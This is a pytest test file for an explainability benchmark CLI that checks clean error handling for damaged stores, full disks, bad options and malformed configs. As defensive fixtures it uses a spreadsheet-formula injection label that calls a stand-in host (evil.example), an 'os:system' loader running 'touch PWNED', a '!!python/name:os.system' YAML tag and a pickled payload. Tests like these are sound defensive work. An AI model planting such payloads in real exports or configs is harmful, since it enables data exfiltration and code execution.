"""The CLI on bad input, damaged stores and full disks: one clear message, a documented exit
status (2 usage/config/store error, 1 jobs failed), never a traceback."""

from __future__ import annotations

import sqlite3
import subprocess
import sys
import textwrap

import pandas as pd
import pytest

from xai_bench import cli

CONFIG = """
name: clierr
tasks: [synthetic.linear]
explainers:
  - id: oracle
    label: '=HYPERLINK("http://evil.example/?"&A1,"ok")'
metrics:
  - id: deletion_auc
    params: {steps: 4}
n_samples: 64
backend: local
"""


def xai_bench(*args: str, cwd, limit: int | None = None) -> subprocess.CompletedProcess:
    """The real CLI in a subprocess; ``limit`` caps the size of any file it writes."""
    code = "import sys; from xai_bench.cli import main; sys.exit(main(sys.argv[1:]))"
    if limit is not None:
        code = (
            "import resource, signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
            f" resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit})); " + code
        )
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
    )


@pytest.fixture(scope="module")
def stored(tmp_path_factory):
    root = tmp_path_factory.mktemp("clierr")
    (root / "c.yaml").write_text(textwrap.dedent(CONFIG))
    assert (
        cli.main(
            [
                "run",
                str(root / "c.yaml"),
                "--store",
                str(root / "s.sqlite"),
                "-o",
                str(root / "r.html"),
            ]
        )
        == 0
    )
    return root / "s.sqlite"


@pytest.fixture
def store(stored, tmp_path):
    path = tmp_path / "s.sqlite"
    src, dst = sqlite3.connect(stored), sqlite3.connect(path)
    src.backup(dst)  # through the WAL: a file copy could miss its last pages
    src.close()
    dst.execute("PRAGMA journal_mode = DELETE")  # one file: the damage below goes into it
    dst.close()
    return path


def assert_clean_error(out: subprocess.CompletedProcess, code: int = 2) -> str:
    assert out.returncode == code, out.stderr
    assert "Traceback" not in out.stderr
    assert out.stderr.startswith("xai-bench: error: ") and out.stderr.count("\n") <= 3
    return out.stderr


def test_export_escapes_formula_cells_like_the_report(store, tmp_path):
    import re
    from pathlib import Path

    from xai_bench.reports.export import FORMULA_START

    assert cli.main(["export", str(store), "-o", str(tmp_path / "x.csv")]) == 0
    csv = pd.read_csv(tmp_path / "x.csv")
    assert set(csv["explainer"]) == {'\'=HYPERLINK("http://evil.example/?"&A1,"ok")', "random"}
    assert (csv["score"] > 0).all()  # numbers stay numbers
    # the report's download buttons escape the very same first characters
    js = (Path(cli.__file__).parent / "reports" / "static" / "report.js").read_text()
    chars = re.search(r"/\^\[(.*?)\]/\.test\(v\)", js).group(1)
    assert chars.encode().decode("unicode_escape").replace("\\", "") == "".join(FORMULA_START)


@pytest.mark.parametrize("command", ["report", "export"])
def test_a_full_disk_leaves_no_truncated_file(store, tmp_path, command):
    out_path = tmp_path / ("r.html" if command == "report" else "c.csv")
    previous = "<!DOCTYPE html><p>the previous report" if command == "report" else "previous"
    out_path.write_text(previous)  # a report may only replace an HTML file
    extra = ["--table", "curves"] if command == "export" else []
    out = xai_bench(command, str(store), "-o", str(out_path), *extra, cwd=tmp_path, limit=40_000)
    err = assert_clean_error(out)
    assert f"cannot write {str(out_path)!r}: File too large. Nothing was written there" in err
    assert out_path.read_text() == previous
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["s.sqlite", out_path.name])


def test_report_of_a_file_that_is_not_a_store(store, tmp_path):
    assert cli.main(["export", str(store), "-o", str(tmp_path / "scores.csv")]) == 0
    out = xai_bench("report", "scores.csv", "-o", "r.html", cwd=tmp_path)
    err = assert_clean_error(out)
    assert (
        "'scores.csv' is a text file, not an SQLite database; `xai-bench report` reads the"
        " SQLite results store that `xai-bench run` writes" in err
    )
    assert "--store path" not in err.split("(")[0] and not (tmp_path / "r.html").exists()


def _damage(store, sql: str) -> None:
    con = sqlite3.connect(store)
    con.executescript(sql)
    con.commit()
    con.close()


def _blob(arr, **kw) -> bytes:
    import io

    import numpy as np

    buf = io.BytesIO()
    np.save(buf, arr, **kw)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("damage", "says"),
    [
        ("UPDATE runs SET provenance = '{not json';", "JSONDecodeError"),
        ("UPDATE scores SET flags = '[1, 2' WHERE sample = 3;", "JSONDecodeError"),
        ("ALTER TABLE explanations DROP COLUMN meta;", "it lacks column explanations.meta"),
        ("DROP TABLE scores;", "it lacks the scores table"),
        ("np-version", "an array in the results store cannot be read"),
        ("pickle", "allow_pickle=False"),
    ],
)
def test_damaged_stores_are_clear_errors(store, tmp_path, damage, says):
    import numpy as np

    if damage == "np-version":
        blob = bytearray(_blob(np.zeros(3)))
        blob[6] = 9  # format version 9.0
        con = sqlite3.connect(store)
        con.execute("UPDATE explanations SET attributions = ?", (bytes(blob),))
        con.commit()
        con.close()
    elif damage == "pickle":
        con = sqlite3.connect(store)
        con.execute(
            "UPDATE explanations SET attributions = ?",
            (_blob(np.array([{"a": 1}], dtype=object), allow_pickle=True),),
        )
        con.commit()
        con.close()
    else:
        _damage(store, damage)
    for command in ("report", "export"):
        out = xai_bench(
            command,
            "s.sqlite",
            "-o",
            f"out.{'html' if command == 'report' else 'csv'}",
            cwd=tmp_path,
        )
        err = assert_clean_error(out)
        assert "damaged" in err and says in err


def test_malformed_database_file(store, tmp_path):
    data = bytearray(store.read_bytes())
    data[5000:9000] = b"\xff" * 4000  # inside the first pages: tables' b-trees
    data[100:200] = b"\x00" * 100
    store.write_bytes(bytes(data))
    out = xai_bench("report", "s.sqlite", "-o", "r.html", cwd=tmp_path)
    err = assert_clean_error(out)
    assert "s.sqlite" in err and ("malformed" in err or "not a database" in err)


def test_unreachable_dask_address(tmp_path):
    import socket
    import time

    (tmp_path / "c.yaml").write_text(textwrap.dedent(CONFIG))
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    start = time.perf_counter()
    out = xai_bench(
        "run", "c.yaml", "--backend", "dask", "--address", f"tcp://127.0.0.1:{port}", cwd=tmp_path
    )
    err = assert_clean_error(out)
    assert time.perf_counter() - start < 30
    assert f"no dask scheduler answers at 'tcp://127.0.0.1:{port}' (Connection refused)" in err


def test_validate_never_runs_a_loader(tmp_path):
    (tmp_path / "c.yaml").write_text(
        textwrap.dedent(CONFIG).replace(
            "tasks: [synthetic.linear]",
            "tasks:\n  - loader: 'os:system'\n    params: {command: 'touch PWNED'}\n"
            "  - loader: no_such_module:make",
        )
    )
    out = xai_bench("validate", "c.yaml", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert "c.yaml: ok - 2 task(s)" in out.stdout
    assert not (tmp_path / "PWNED").exists()
    out = xai_bench("run", "c.yaml", cwd=tmp_path)  # run calls loaders: that is what they are for
    err = assert_clean_error(out)
    assert "task loader 'os:system' returned int; expected a xai_bench.Task." in err


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (
            ["--set", "name=!!python/name:os.system"],
            "problem(s) in --set name=!!python/name:os.system",
        ),
        (["--set", "seeds=[0, 1"], "in --set seeds=[0, 1:\n  not valid YAML"),
        (["--explainers", "shap.kernl"], "in the command-line options:"),
    ],
)
def test_bad_options_name_the_option(tmp_path, args, says):
    (tmp_path / "ok.yaml").write_text(textwrap.dedent(CONFIG))
    out = xai_bench("validate", "ok.yaml", *args, cwd=tmp_path)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert says in out.stderr and "in ok.yaml" not in out.stderr


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"tasks: " + b"[" * 10_000 + b"]" * 10_000, "nested too deeply"),
        (b"name: d\xe9mo\n", "byte 0xe9 at offset 7 is not UTF-8 text"),
        (b"name: a\nname: b\n", "line 2: duplicate key 'name' (first on line 1)"),
    ],
)
def test_unreadable_configs(tmp_path, content, says):
    (tmp_path / "c.yaml").write_bytes(content)
    out = xai_bench("validate", "c.yaml", cwd=tmp_path)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert says in out.stderr
